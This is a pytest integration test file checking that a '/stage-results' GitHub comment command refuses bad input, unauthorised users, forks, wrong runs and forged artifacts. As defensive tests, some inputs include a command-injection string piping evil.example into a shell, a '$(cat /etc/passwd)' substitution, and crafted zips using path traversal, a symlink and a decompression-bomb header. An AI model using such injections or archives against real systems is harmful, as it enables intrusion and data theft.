"""Every refusal of `/stage-results` is a reply on the pull request and exit 1, driven from an
issue_comment payload through the GitHub API double: bad comments, commenters without write
access, issues that are not pull requests, forks, runs that are not this pull request's
sweep, expired or missing artifacts, unsafe zips, and runs that fail the gates."""

from __future__ import annotations

import json
import struct
import zipfile

import pytest

from tests.integration.stage import stagerun as sr

pytestmark = pytest.mark.integration


def _reply(gh, number=sr.PR):
    notes = gh.comments_on(number)
    assert len(notes) == 1, [n["body"] for n in notes]
    return notes[0]


def _refused(result, gh, fragment, *, acknowledged, tmp_path, login="maya"):
    code, out, err = result
    assert code == 1, out + err
    assert "Traceback" not in out + err
    note = _reply(gh)
    assert note["body"].startswith(f"@{login} ")
    assert fragment in note["body"], note["body"]
    # after an acknowledgement the outcome edits that same comment; before it, one new reply
    assert note["edits"] == (1 if acknowledged else 0)
    if acknowledged:
        assert "This comment will be updated" not in note["body"]
    summary = (tmp_path / "summary.md").read_text()
    assert "Outcome: **refused**" in summary and fragment in summary
    assert not (tmp_path / "site").exists()  # nothing was published
    return note["body"]


def test_a_comment_that_is_not_the_command_is_ignored(gh, tmp_path, run_cli):
    sr.sweep(gh, tmp_path)
    code, out, err = sr.stage(run_cli, gh, tmp_path, "LGTM, thanks!")
    assert code == 0 and "nothing to do" in out
    assert gh.comments_on(sr.PR) == []
    assert not any(m == "POST" for m, _, _ in gh.state.log)


@pytest.mark.parametrize(("body", "fragment"), [
    ("/stage-results 33825304569 please", "only one run id may follow the command"),
    ("/stage-results 1; curl evil.example | sh", "shell metacharacters"),
    ("/stage-results $(cat /etc/passwd)", "shell metacharacters"),
    ("/stage-results \uff13\uff13\uff18", "a digit that is not ASCII 0-9"),
    ("/stage-results 3382530456\u0417", "not ASCII"),
    ("/stage-results latest", "'latest' is not a run id"),
    ("/stage-results 0x7f", "'0x7f' is not a run id"),
])
def test_malformed_commands_get_a_usage_reply(gh, tmp_path, run_cli, body, fragment):
    sr.sweep(gh, tmp_path)
    text = _refused(sr.stage(run_cli, gh, tmp_path, body), gh, fragment, acknowledged=False,
                    tmp_path=tmp_path)
    assert "Usage: `/stage-results`" in text
    # a usage error is answered before anything else is asked of GitHub
    assert [m for m, _, _ in gh.state.log] == ["POST"]


@pytest.mark.parametrize(("login", "has"), [("rita", "read"), ("tom", "read"),
                                            ("stranger", "none")])
def test_commenters_without_write_access_are_refused(gh, tmp_path, run_cli, login, has):
    sr.sweep(gh, tmp_path).add_run()
    _refused(sr.stage(run_cli, gh, tmp_path, f"/stage-results {sr.RUN}", login=login), gh,
             f"needs write, maintain or admin access to this repository (you have {has})",
             acknowledged=False, tmp_path=tmp_path, login=login)


def test_an_issue_that_is_not_a_pull_request_is_refused(gh, tmp_path, run_cli):
    gh.add_issue(5)
    gh.state.permissions["maya"] = "maintain"
    code, out, err = sr.stage(run_cli, gh, tmp_path, "/stage-results", number=5)
    assert code == 1 and "Traceback" not in out + err
    (note,) = gh.comments_on(5)
    assert "works only on a pull request" in note["body"]


def test_a_fork_pull_request_is_refused(gh, tmp_path, run_cli):
    sr.sweep(gh, tmp_path, fork="mallory/infersweep").add_run()
    _refused(sr.stage(run_cli, gh, tmp_path, f"/stage-results {sr.RUN}"), gh,
             "comes from mallory/infersweep", acknowledged=False, tmp_path=tmp_path)


@pytest.mark.parametrize("labels", [(), ("sweep-enabled",), ("full-sweep-fail-fast",
                                                            "agentx-fast")])
def test_a_pull_request_without_a_full_sweep_label_is_refused(gh, tmp_path, run_cli, labels):
    sr.sweep(gh, tmp_path, labels=labels).add_run()
    body = _refused(sr.stage(run_cli, gh, tmp_path, f"/stage-results {sr.RUN}"), gh,
                    "this pull request carries", acknowledged=False, tmp_path=tmp_path)
    assert "full-sweep-fail-fast" in body


@pytest.mark.parametrize(("run", "fragment"), [
    ({"path": ".github/workflows/e2e-tests.yml"},
     "it is a run of .github/workflows/e2e-tests.yml, not .github/workflows/run-sweep.yml"),
    ({"event": "workflow_dispatch"}, "started by a workflow_dispatch event"),
    ({"head_sha": "c3" * 20}, "is not a commit of this pull request"),     # another PR's head
    ({"status": "in_progress", "conclusion": None}, "it has not completed"),
    ({"created_at": "2026-11-30T08:00:00Z"},
     "when it was created the pull request carries no full-sweep label"),
])
def test_a_run_that_is_not_this_pull_requests_sweep_is_refused(gh, tmp_path, run_cli, run,
                                                               fragment):
    sr.sweep(gh, tmp_path).add_run(**run)
    body = _refused(sr.stage(run_cli, gh, tmp_path, f"/stage-results {sr.RUN}"), gh, fragment,
                    acknowledged=False, tmp_path=tmp_path)
    assert f"run {sr.RUN} cannot be staged for this pull request" in body


def test_a_missing_run_is_refused(gh, tmp_path, run_cli):
    sr.sweep(gh, tmp_path)
    _refused(sr.stage(run_cli, gh, tmp_path, "/stage-results 4242"), gh,
             "there is no workflow run 4242 in this repository", acknowledged=False,
             tmp_path=tmp_path)


def test_no_stageable_run_for_the_head_is_refused_with_what_was_looked_at(gh, tmp_path,
                                                                          run_cli):
    s = sr.sweep(gh, tmp_path)
    s.add_run(111, event="push")
    body = _refused(sr.stage(run_cli, gh, tmp_path, "/stage-results"), gh,
                    "no completed `pull_request` run of run-sweep.yml", acknowledged=False,
                    tmp_path=tmp_path)
    assert "Runs looked at" not in body  # the push run is not a pull_request run at all


def _with_artifacts(gh, tmp_path, **replace):
    s = sr.sweep(gh, tmp_path)
    arts = {"results_bmk": sr.results_bmk(tmp_path, s.row), "changelog-metadata":
            sr.changelog_zip(), "sweep-rows": sr.rows_zip([s.row])}
    arts.update(replace)
    s.add_run(artifacts={k: v for k, v in arts.items() if v is not None})
    return s


def test_an_expired_artifact_is_refused(gh, tmp_path, run_cli):
    _with_artifacts(gh, tmp_path)
    gh.state.artifacts[sr.RUN][0]["expired"] = True
    _refused(sr.stage(run_cli, gh, tmp_path, f"/stage-results {sr.RUN}"), gh,
             "the `results_bmk` artifact of run 33825304569 has expired", acknowledged=True,
             tmp_path=tmp_path)


def test_an_artifact_that_expires_between_listing_and_download_is_refused(gh, tmp_path,
                                                                          run_cli):
    _with_artifacts(gh, tmp_path)
    # listed as unexpired, but the download is answered 410 Gone
    gh.state.gone.add(gh.state.artifacts[sr.RUN][0]["id"])
    body = _refused(sr.stage(run_cli, gh, tmp_path, f"/stage-results {sr.RUN}"), gh,
                    "GitHub answered 410 Gone", acknowledged=True, tmp_path=tmp_path)
    assert "Re-run the sweep" in body


@pytest.mark.parametrize("name", ["results_bmk", "changelog-metadata", "sweep-rows"])
def test_a_missing_artifact_is_refused(gh, tmp_path, run_cli, name):
    _with_artifacts(gh, tmp_path, **{name: None})
    _refused(sr.stage(run_cli, gh, tmp_path, f"/stage-results {sr.RUN}"), gh,
             f"run 33825304569 has no `{name}` artifact", acknowledged=True, tmp_path=tmp_path)
    body = _reply(gh)["body"]
    assert "so there is no" in body or "nothing complete" in body, body
    assert "so there is the matrix" not in body


def _symlink():
    info = zipfile.ZipInfo("results/link")
    info.create_system = 3
    info.external_attr = (0o120777) << 16
    return info


def _oversized() -> bytes:
    """A zip whose central directory says a member unpacks to ~4 GB."""
    data = bytearray(sr.zip_members([("aggregate/results.json", b"{}")]))
    at = data.index(b"PK\x01\x02") + 24
    data[at:at + 4] = struct.pack("<I", 0xFFFFFFF0)
    return bytes(data)


@pytest.mark.parametrize(("data", "fragment"), [
    (sr.zip_members([("../../outside.json", b"{}")]), "climbs out of the folder (..)"),
    (sr.zip_members([("/tmp/outside.json", b"{}")]), "has an absolute path"),
    (sr.zip_members([(_symlink(), b"/etc/passwd")]), "is a symbolic link"),
    (_oversized(), "unpacks to 4294967280 bytes, more than the limit"),
])
def test_an_unsafe_zip_is_refused_and_nothing_leaves_the_folder(gh, tmp_path, run_cli, data,
                                                                fragment):
    _with_artifacts(gh, tmp_path, results_bmk=data)
    workdir = tmp_path / "work"
    body = _refused(sr.stage(run_cli, gh, tmp_path, f"/stage-results {sr.RUN}",
                             extra=("--workdir", workdir)),
                    gh, fragment, acknowledged=True, tmp_path=tmp_path)
    assert "was not unpacked" in body
    # the zip came from blob storage, which never saw the API token
    assert gh.state.storage_log and all(auth is None for _, auth in gh.state.storage_log)
    assert not (workdir / "results_bmk").exists()
    assert not (tmp_path / "outside.json").exists()


def _edited(data: bytes, member: str, edit) -> bytes:
    """The zip ``data`` with the JSON member ``member`` replaced by ``edit(its JSON)``."""
    import io

    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        members = [(n, zf.read(n)) for n in zf.namelist()]
    return sr.zip_members([(n, json.dumps(edit(json.loads(b))).encode() if n == member else b)
                           for n, b in members])


def _stage_edited(gh, tmp_path, run_cli, member, edit, fragment):
    s = sr.sweep(gh, tmp_path)
    bmk = _edited(sr.results_bmk(tmp_path, s.row), member, edit)
    s.add_run(artifacts={"results_bmk": bmk, "changelog-metadata": sr.changelog_zip(),
                         "sweep-rows": sr.rows_zip([s.row])})
    body = _refused(sr.stage(run_cli, gh, tmp_path, f"/stage-results {sr.RUN}"), gh,
                    "is not stageable", acknowledged=True, tmp_path=tmp_path)
    assert fragment in body, body
    assert "the aggregate was edited or written by another run" in body
    return body


def test_an_aggregate_that_is_not_one_is_refused(gh, tmp_path, run_cli):
    _stage_edited(gh, tmp_path, run_cli, "aggregate/results.json",
                  lambda agg: {**agg, "rows": "none"},
                  "aggregate/results.json: cannot be compared with the job folders")


def test_a_forged_eval_score_in_the_aggregate_is_refused(gh, tmp_path, run_cli):
    """The eval folders re-score to what they hold; the aggregate says 0.999."""
    def forge(doc):
        for e in doc["evals"]:
            e.update({"em-strict": 0.999, "em-flexible": 0.999})
        return doc

    _stage_edited(gh, tmp_path, run_cli, "aggregate/evals.json", forge,
                  "aggregate/evals.json says em-strict = 0.999")


def test_a_point_removed_from_the_aggregate_is_missed(gh, tmp_path, run_cli):
    def drop(agg):
        return {**agg, "rows": agg["rows"][1:]}

    _stage_edited(gh, tmp_path, run_cli, "aggregate/results.json", drop,
                  "aggregate/results.json lacks dsv4-fp4-mi355x-atom-disagg")


def test_a_throughput_raised_in_the_aggregate_is_refused(gh, tmp_path, run_cli):
    def raise_tput(agg):
        agg["rows"][0]["tput_per_gpu"] = agg["rows"][0]["tput_per_gpu"] * 2
        return agg

    _stage_edited(gh, tmp_path, run_cli, "aggregate/results.json", raise_tput,
                  "aggregate/results.json says tput_per_gpu = ")


def test_a_run_missing_points_of_its_matrix_is_refused(gh, tmp_path, run_cli):
    s = sr.sweep(gh, tmp_path)
    asked = sr.matrix_row((4, 8, 16))
    s.add_run(artifacts={"results_bmk": sr.results_bmk(tmp_path, s.row),
                         "changelog-metadata": sr.changelog_zip(),
                         "sweep-rows": sr.rows_zip([asked])})
    body = _refused(sr.stage(run_cli, gh, tmp_path, f"/stage-results {sr.RUN}"), gh,
                    "is not stageable", acknowledged=True, tmp_path=tmp_path)
    assert "results check: " in body and "missing" in body


def test_a_run_with_a_short_point_is_refused(gh, tmp_path, run_cli):
    s = sr.sweep(gh, tmp_path)
    from tests import resultsrun

    short = resultsrun.result(8, 8, completed=6, failed=2)
    s.add_run(artifacts={"results_bmk": sr.results_bmk(tmp_path, s.row, results={8: short}),
                         "changelog-metadata": sr.changelog_zip(),
                         "sweep-rows": sr.rows_zip([s.row])})
    body = _refused(sr.stage(run_cli, gh, tmp_path, f"/stage-results {sr.RUN}"), gh,
                    "is not stageable", acknowledged=True, tmp_path=tmp_path)
    assert "short: completed 6 of 8" in body and "2 request(s) failed" in body


def test_a_run_whose_eval_is_below_its_threshold_is_refused(gh, tmp_path, run_cli):
    s = sr.sweep(gh, tmp_path)
    s.add_run(artifacts={"results_bmk": sr.results_bmk(tmp_path, s.row, eval_ok=False),
                         "changelog-metadata": sr.changelog_zip(),
                         "sweep-rows": sr.rows_zip([s.row])})
    body = _refused(sr.stage(run_cli, gh, tmp_path, f"/stage-results {sr.RUN}"), gh,
                    "is not stageable", acknowledged=True, tmp_path=tmp_path)
    assert "eval check: " in body and "below the threshold 0.91" in body


def test_a_run_marked_run_eval_without_its_eval_is_refused(gh, tmp_path, run_cli):
    s = sr.sweep(gh, tmp_path)
    s.add_run(artifacts={"results_bmk": sr.results_bmk(tmp_path, s.row, with_eval=False),
                         "changelog-metadata": sr.changelog_zip(),
                         "sweep-rows": sr.rows_zip([s.row])})
    _refused(sr.stage(run_cli, gh, tmp_path, f"/stage-results {sr.RUN}"), gh,
             "is marked run-eval and has no eval", acknowledged=True, tmp_path=tmp_path)


def test_commits_and_timeline_are_read_past_their_first_page(gh, tmp_path, run_cli):
    """The head is the 160th commit (page 2 of 100) and the label event comes after 250
    comments (page 3): the run still validates, and staging goes on to its artifacts."""
    many = [f"{i:040x}" for i in range(159)] + [sr.HEAD]
    gh.add_pull(sr.PR, head_sha=sr.HEAD, commits=many, labels=[sr.FULL],
                label_events=[("labeled", sr.FULL, sr.LABELED_AT)])
    gh.add_comment_events(sr.PR, 250)
    gh.state.permissions["maya"] = "admin"
    gh.add_run(sr.RUN, head_sha=sr.HEAD, created_at=sr.CREATED)
    _refused(sr.stage(run_cli, gh, tmp_path, f"/stage-results {sr.RUN}"), gh,
             "has no `changelog-metadata` artifact", acknowledged=True, tmp_path=tmp_path)
    pages = [p for m, p, _ in gh.state.log if "/commits" in p or "/timeline" in p]
    assert any("/commits" in p and "page=2" in p for p in pages)
    assert any("/timeline" in p and "page=3" in p for p in pages)


def test_the_command_reads_everything_from_the_actions_environment(gh, tmp_path):
    """As the workflow runs it: a child process with only GitHub Actions' variables."""
    import os
    import subprocess
    import sys

    sr.sweep(gh, tmp_path).add_run()
    event = tmp_path / "event.json"
    event.write_text(json.dumps(gh.event(sr.PR, "wendy", "/stage-results 12 13")))
    summary, output = tmp_path / "summary.md", tmp_path / "output.txt"
    env = {k: v for k, v in os.environ.items() if not k.startswith(("GITHUB_", "INFERSWEEP_"))}
    env.update(GITHUB_EVENT_PATH=str(event), GITHUB_EVENT_NAME="issue_comment",
               GITHUB_REPOSITORY=gh.state.repository, GITHUB_API_URL=gh.url,
               GITHUB_TOKEN="test-token", GITHUB_STEP_SUMMARY=str(summary),
               GITHUB_OUTPUT=str(output), INFERSWEEP_DB_URL=f"sqlite:///{tmp_path / 's.db'}")
    proc = subprocess.run([sys.executable, "-m", "infersweep", "stage"], env=env,
                          capture_output=True, text=True, timeout=120, cwd=tmp_path)
    assert proc.returncode == 1, proc.stdout + proc.stderr
    assert "Traceback" not in proc.stdout + proc.stderr
    note = _reply(gh)
    assert note["body"].startswith("@wendy only one run id may follow the command")
    assert "Outcome: **refused**" in summary.read_text()
    assert "staged=false" in output.read_text()
    assert all(auth == "token test-token" for _, _, auth in gh.state.log)


def test_an_artifact_holding_another_runs_rows_is_refused(gh, tmp_path, run_cli):
    s = sr.sweep(gh, tmp_path)
    s.add_run(artifacts={"results_bmk": sr.results_bmk(tmp_path, s.row, run_id="111"),
                         "changelog-metadata": sr.changelog_zip(),
                         "sweep-rows": sr.rows_zip([s.row])})
    _refused(sr.stage(run_cli, gh, tmp_path, f"/stage-results {sr.RUN}"), gh,
             "the job folders hold rows of run 111, not of run 33825304569", acknowledged=True,
             tmp_path=tmp_path)
